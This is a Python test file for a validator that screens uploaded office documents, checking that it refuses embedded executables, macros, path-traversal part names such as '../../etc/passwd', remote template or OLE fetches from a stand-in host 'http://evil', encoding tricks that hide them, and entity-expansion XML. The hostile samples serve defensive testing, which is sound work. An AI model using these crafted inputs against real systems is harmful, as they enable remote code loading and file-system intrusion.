"""Office documents are archives: what hides in them, leads out of them or is fetched by them is refused."""

from __future__ import annotations

import struct

import pytest

from tests.hub.attached_files import (
    archive,
    compound,
    office,
    pdf,
    picture,
    refusal,
)
from tests.hub.attached_files import checked as kept

RELATIONS = '<Relationships><Relationship Id="r1" Target="{target}" {mode} Type="http://x/relationships/{kind}"/></Relationships>'
OTHER = "is a document with another file or another program's object in it; save it without, or as PDF"


def test_an_archive_is_no_document():
    assert refusal(archive({"사진.jpg": picture()})) == "is an archive; send its files one by one"
    assert refusal(archive({})) == "is an archive; send its files one by one"
    assert "not taken" in refusal(archive({"mimetype": b"application/vnd.oasis.opendocument.text"}))


@pytest.mark.parametrize(
    "inner",
    [
        archive({"0.zip": b"x"}),
        b"Rar!\x1a\x07\x01\0",
        b"7z\xbc\xaf\x27\x1c",
        b"MZ\x90\0\x03\0\0\0" + bytes(80),
        b"\x7fELF\x02\x01\x01",
        b"%!PS-Adobe-3.0 EPSF",
        compound({"Ole10Native": b"x"}),
        struct.pack("<I", 2048) + compound({"Ole10Native": b"x"}),  # as Hancom stores it
        b"{\\rtf1",
        pdf(),
    ],
)
@pytest.mark.parametrize("name", ["word/media/image1.png", "word/embeddings/a.bin"])
def test_nothing_that_is_a_file_of_another_kind_hides_in_a_document(inner, name):
    assert refusal(office(parts={name: inner})) == OTHER
    assert kept(office(parts={name: b"\x89PNG\r\n" + inner})), "only what a part begins with says what it is"


@pytest.mark.parametrize(
    "name",
    ["a.exe", "x/b.DLL", "a.js", "word/embeddings/표.xlsx", "a.lnk", "c.zip", "x.html", "x.eps", "BinData/a.OLE"],
)
def test_parts_with_the_names_of_programs_and_files_are_refused(name):
    assert refusal(office(parts={name: b"text"})) == OTHER


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "xl/VBAPROJECT.BIN", "word/activeX/activeX1.bin", "xl/macrosheets/sheet1.xml"])  # fmt: skip
def test_macros_are_refused_by_name(name):
    assert "macros" in refusal(office(parts={name: b"x"}))


def test_macros_are_refused_by_what_the_document_says_of_itself():
    for types in (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        '<Override PartName="/a" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        '<Override PartName="/a" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>',
    ):
        assert "macros" in refusal(office(types=types))


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "/etc/passwd", "word/../../a", "..\\a", "C:\\a", "a/./b", "a\x07b"]
)
def test_names_that_lead_out_are_refused(name):
    assert refusal(office(parts={name: b"x"})) == "is a document with parts that no document has"


def test_the_same_name_twice_is_refused():
    assert refusal(office(parts={"a.xml": b"1", "A.XML": b"2"})) == "is a document with parts that no document has"


def test_a_part_may_have_a_korean_name_in_cp949():
    data = bytearray(office(parts={"customXml/XXXX.xml": b"<x/>"}))
    old, new = b"customXml/XXXX.xml", "customXml/민원.xml".encode("cp949")
    assert kept(bytes(data).replace(old, new)).extension == "docx"


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "image"])
def test_a_document_fetches_nothing(kind):
    outside = RELATIONS.format(target="http://evil/x.dotm", mode='TargetMode="External"', kind=kind)
    tricked = outside.replace('Id="r1"', 'Id="r>1"').replace("External", "Ext&#101;rnal")
    for text in (outside.encode(), outside.encode("utf-16"), tricked.encode()):
        assert "fetches something" in refusal(office(parts={"word/_rels/settings.xml.rels": text}))


def test_links_that_a_reader_clicks_are_fine():
    link = RELATIONS.format(target="https://www.seoul.go.kr", mode='TargetMode="External"', kind="hyperlink")
    inside = RELATIONS.format(target="media/image1.png", mode="", kind="image")
    assert kept(office(parts={"word/_rels/document.xml.rels": link.encode(), "_rels/.rels": inside.encode()}))


def test_entities_are_refused():
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    assert refusal(office(parts={"_rels/.rels": laughs})) == "is a damaged document"


def test_a_document_is_of_one_kind():
    two = '<Override PartName="/b" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    assert "of a kind that is not taken" in refusal(office("docx", types=two))


def test_what_is_read_as_text_is_bounded():
    assert "larger than it should be" in refusal(office(parts={"_rels/.rels": b" " * 9_000_000}))
